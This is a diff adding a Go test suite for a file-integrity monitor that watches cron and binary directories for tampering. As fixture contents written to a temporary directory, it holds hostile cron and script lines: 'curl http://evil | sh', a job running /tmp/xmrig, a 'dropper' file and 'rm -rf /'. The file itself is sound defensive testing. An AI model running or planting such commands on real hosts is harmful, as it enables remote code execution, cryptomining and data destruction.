@@ -0,0 +1,144 @@
+// Copyright 2025 CompliK Authors
+//
+// Licensed under the Apache License, Version 2.0 (the "License");
+// you may not use this file except in compliance with the License.
+// You may obtain a copy of the License at
+//
+//     http://www.apache.org/licenses/LICENSE-2.0
+//
+// Unless required by applicable law or agreed to in writing, software
+// distributed under the License is distributed on an "AS IS" BASIS,
+// WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+// See the License for the specific language governing permissions and
+// limitations under the License.
+
+package integrity
+
+import (
+	"os"
+	"path/filepath"
+	"testing"
+
+	"github.com/bearslyricattack/CompliK/procscan/pkg/models"
+	. "github.com/onsi/ginkgo/v2"
+	. "github.com/onsi/gomega"
+)
+
+func TestIntegrity(t *testing.T) {
+	RegisterFailHandler(Fail)
+	RunSpecs(t, "Integrity Suite")
+}
+
+var _ = Describe("Monitor", func() {
+	var (
+		hostRoot string
+		monitor  *Monitor
+	)
+
+	write := func(path, content string) {
+		local := filepath.Join(hostRoot, path)
+		Expect(os.MkdirAll(filepath.Dir(local), 0o755)).To(Succeed())
+		Expect(os.WriteFile(local, []byte(content), 0o644)).To(Succeed())
+	}
+
+	changeOf := func(path string) func() *Change {
+		return func() *Change {
+			for _, change := range monitor.Changes() {
+				if change.Path == path {
+					return change
+				}
+			}
+			return nil
+		}
+	}
+
+	BeforeEach(func() {
+		hostRoot = GinkgoT().TempDir()
+		write("/etc/cron.d/logrotate", "0 0 * * * root logrotate")
+		write("/etc/cron.d/editor.swp", "swap")
+		write("/usr/local/bin/tool", "#!/bin/sh")
+		write("/etc/crontab", "17 * * * * root run-parts /etc/cron.hourly")
+		write("/etc/hostname", "node-1")
+
+		var err error
+		monitor, err = NewMonitor(models.IntegrityConfig{
+			HostRoot: hostRoot,
+			Paths:    []string{"/etc/cron.d", "/etc/crontab", "/usr/local/bin", "/etc/kubernetes/manifests"},
+			Exclude:  []string{`\.swp$`},
+		})
+		Expect(err).NotTo(HaveOccurred())
+		Expect(monitor.Start()).To(Succeed())
+		DeferCleanup(monitor.Stop)
+	})
+
+	It("should start without changes and skip missing paths", func() {
+		Expect(monitor.Changes()).To(BeEmpty())
+		Expect(monitor.baseline).To(HaveLen(3))
+	})
+
+	It("should report modified files until they are restored", func() {
+		write("/etc/cron.d/logrotate", "* * * * * root curl http://evil | sh")
+		Eventually(changeOf("/etc/cron.d/logrotate")).Should(And(
+			HaveField("Type", ChangeModified),
+			HaveField("Root", "/etc/cron.d"),
+		))
+
+		write("/etc/cron.d/logrotate", "0 0 * * * root logrotate")
+		Eventually(changeOf("/etc/cron.d/logrotate")).Should(BeNil())
+	})
+
+	It("should report created and deleted files", func() {
+		write("/etc/cron.d/miner", "* * * * * root /tmp/xmrig")
+		Expect(os.Remove(filepath.Join(hostRoot, "/usr/local/bin/tool"))).To(Succeed())
+
+		Eventually(changeOf("/etc/cron.d/miner")).Should(HaveField("Type", ChangeCreated))
+		Eventually(changeOf("/usr/local/bin/tool")).Should(And(
+			HaveField("Type", ChangeDeleted),
+			HaveField("CurrentHash", ""),
+		))
+	})
+
+	It("should watch single files without reporting their siblings", func() {
+		write("/etc/hostname", "node-2")
+		write("/etc/crontab", "* * * * * root /tmp/x")
+		Eventually(changeOf("/etc/crontab")).Should(HaveField("Type", ChangeModified))
+		Expect(changeOf("/etc/hostname")()).To(BeNil())
+	})
+
+	It("should watch directories created after the baseline", func() {
+		write("/usr/local/bin/sub/dropper", "payload")
+		Eventually(changeOf("/usr/local/bin/sub/dropper")).Should(HaveField("Type", ChangeCreated))
+	})
+
+	It("should ignore excluded paths", func() {
+		write("/etc/cron.d/editor.swp", "changed")
+		write("/etc/cron.d/other.swp", "new")
+		Consistently(monitor.Changes, "200ms").Should(BeEmpty())
+	})
+
+	It("should catch changes missed by the watcher on verify", func() {
+		Expect(monitor.Stop()).To(Succeed())
+		write("/usr/local/bin/tool", "#!/bin/sh\nrm -rf /")
+		monitor.verify()
+		Expect(changeOf("/usr/local/bin/tool")()).To(HaveField("Type", ChangeModified))
+	})
+})
+
+var _ = Describe("NewMonitor", func() {
+	It("should reject relative paths and invalid exclude patterns", func() {
+		_, err := NewMonitor(models.IntegrityConfig{Paths: []string{"etc/cron.d"}})
+		Expect(err).To(HaveOccurred())
+		_, err = NewMonitor(models.IntegrityConfig{Exclude: []string{"[invalid"}})
+		Expect(err).To(HaveOccurred())
+	})
+
+	It("should map container paths back to host paths", func() {
+		monitor, err := NewMonitor(models.IntegrityConfig{})
+		Expect(err).NotTo(HaveOccurred())
+		path, ok := monitor.hostPath("/host/etc/cron.d/job")
+		Expect(ok).To(BeTrue())
+		Expect(path).To(Equal("/etc/cron.d/job"))
+		_, ok = monitor.hostPath("/config/config.yaml")
+		Expect(ok).To(BeFalse())
+	})
+})